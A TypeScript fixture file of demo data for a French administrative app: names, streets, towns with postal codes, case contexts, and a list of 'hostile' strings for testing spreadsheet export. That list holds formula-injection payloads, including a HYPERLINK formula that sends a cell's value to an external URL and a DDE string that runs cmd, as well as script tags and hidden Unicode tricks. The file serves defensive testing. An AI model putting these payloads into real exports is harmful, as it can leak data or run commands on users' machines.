// Names of people and places in the demo, and texts that once broke spreadsheets.

export const firstNames: readonly string[] = `
  Adèle, Aïcha, Alain, Amina, Anaïs, Antoine, Bintou, Camille, Chloé, Diego, Élodie, Émile, Fatou, Félix,
  Gaëlle, Hugo, Inès, Jean-Noël, Joël, Karim, Léa, Loïc, Lucie, Malik, Maëlys, Nadia, Noé, Océane, Oumar,
  Paul, Rachid, Rose, Salomé, Théo, Yasmine, Zoé`
  .split(',')
  .map((name) => name.trim());

export const lastNames: readonly string[] = `
  Abadie, Baptiste, Benali, Bœuf, Caron, Cissé, Delattre, Diallo, Dupont, D’Hérouville, Étienne, Ferreira,
  Fournier, Garnier, Grondin, Hoarau, Lambert, Le Goff, Lefebvre, Martin, Mercier, Morel, N’Diaye, Nguyen,
  Payet, Petit, Ribeiro, Rivière, Roussel, Saint-Omer, Traoré, Vasseur, Yıldız`
  .split(',')
  .map((name) => name.trim());

export const streets = [
  'rue de la Paix',
  'avenue du Général Leclerc',
  'place de l’Église',
  'chemin des Écoles',
  'impasse des Lilas',
  'boulevard de la République',
  'rue Nelson Mandela',
] as const;

export interface Town {
  name: string;
  postCode: string;
  cityCode: string;
}

export const townsOf: Readonly<Record<number, readonly Town[]>> = {
  1: [
    { name: 'Arras', postCode: '62000', cityCode: '62041' },
    { name: 'Béthune', postCode: '62400', cityCode: '62119' },
    { name: 'Calais', postCode: '62100', cityCode: '62193' },
    { name: 'Saint-Pol-sur-Ternoise', postCode: '62130', cityCode: '62767' },
    { name: 'L’Écluse-d’Artois', postCode: '62170', cityCode: '62999' },
  ],
  2: [
    { name: 'Saint-Denis', postCode: '97400', cityCode: '97411' },
    { name: 'Le Tampon', postCode: '97430', cityCode: '97422' },
    { name: 'Cilaos', postCode: '97413', cityCode: '97424' },
  ],
  3: [
    { name: 'Fort-de-France', postCode: '97200', cityCode: '97209' },
    { name: 'Le Lamentin', postCode: '97232', cityCode: '97213' },
  ],
  4: [
    { name: 'Nouméa', postCode: '98800', cityCode: '98818' },
    { name: 'Le Mont-Dore', postCode: '98809', cityCode: '98817' },
  ],
};

export const contexts = [
  'Première demande',
  'Suivi de dossier',
  'Renouvellement',
  'Orienté par le CCAS',
  'Besoin d’un interprète',
  'Pièces à compléter',
] as const;

/** Texts pasted from elsewhere, and texts of attackers. */
export const hostileTexts = [
  '=HYPERLINK("http://example.org/?v="&A1,"cliquer")',
  '=1+1',
  '+33 1 23 45 67 89',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋33 1 23 45 67 89',
  '－2+3',
  '＠SUM(1+1)',
  ' \u00A0=1+1',
  '\u200B=1+1',
  ';=1+1',
  ' ,\t|＝1+1',
  'avant;=1+1;après',
  'avant,=1+1,après',
  'avant\t=1+1\taprès',
  'avant|=1+1|après',
  'ligne une\nligne deux\r\nligne trois',
  'Emoji 👩‍👩‍👧‍👦 🇫🇷 et l’apostrophe',
  'مرحبا بالعالم',
  'עברית then English',
  '\u202Etxet desrever\u202C',
  '_x000D_ et _x0041_',
  '<script>alert("&amp;")</script> & ]]>',
  'contrôle \u0001\u0008\u001F\u007F fin',
  'NULL',
  '\\N',
  'O\'Neil "dit" ; l,e\\grand',
  `${'Très long. '.repeat(3_636)}fin`.padEnd(40_000, '.'),
  ' espaces autour ',
  '00123',
  '1E5',
  '01/02/2026',
] as const;
